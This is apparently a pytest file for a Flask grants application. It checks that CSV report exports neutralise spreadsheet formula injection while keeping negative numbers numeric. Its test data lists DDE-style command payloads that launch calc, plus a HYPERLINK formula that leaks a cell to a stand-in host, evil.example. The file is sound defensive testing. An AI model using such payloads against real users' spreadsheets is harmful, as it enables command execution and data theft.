"""Public CSV reports cannot carry formulas: text a spreadsheet would run is neutralised
(OWASP's leading ``'``), numbers stay numbers. Both databases."""

from __future__ import annotations

import csv
import io
from typing import Any

from flask import Flask
from flask.testing import FlaskCliRunner

from exports.csv_export import neutralised_cell
from tests.test_api_support import build_story, proposal

INJECTED = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1, "Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_csv_cells_never_start_a_formula(app: Flask, client: Any, runner: FlaskCliRunner) -> None:
    story = build_story(app, client, runner)
    for purpose in INJECTED:
        story.http.post(
            "/pools/food/grants", proposal(purpose=purpose), token=story.applicant, status=201
        )
    assert runner.invoke(args=["checkpoint", "--new"]).exit_code == 0  # reports cover it
    response = client.get("/api/v1/pools/food/reports/latest.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    purposes = [row["purpose"] for row in rows if row["kind"] == "grant_proposed"]
    assert purposes == ["'" + purpose for purpose in INJECTED]
    for row in rows:
        for name, cell in row.items():
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"{name} begins a formula: {cell!r}")
            if cell.startswith("-"):
                float(cell)  # a number, nothing else


def test_numbers_stay_numbers() -> None:
    """A negative amount (a disbursement's fund_change) is not text to neutralise."""
    assert [neutralised_cell(v) for v in ["-1500", "-15.00", 1500, -3, None]] == [
        "-1500",
        "-15.00",
        1500,
        -3,
        "",
    ]
    assert [neutralised_cell(v) for v in ["-x", "- 5", "-1e3"]] == ["'-x", "'- 5", "'-1e3"]
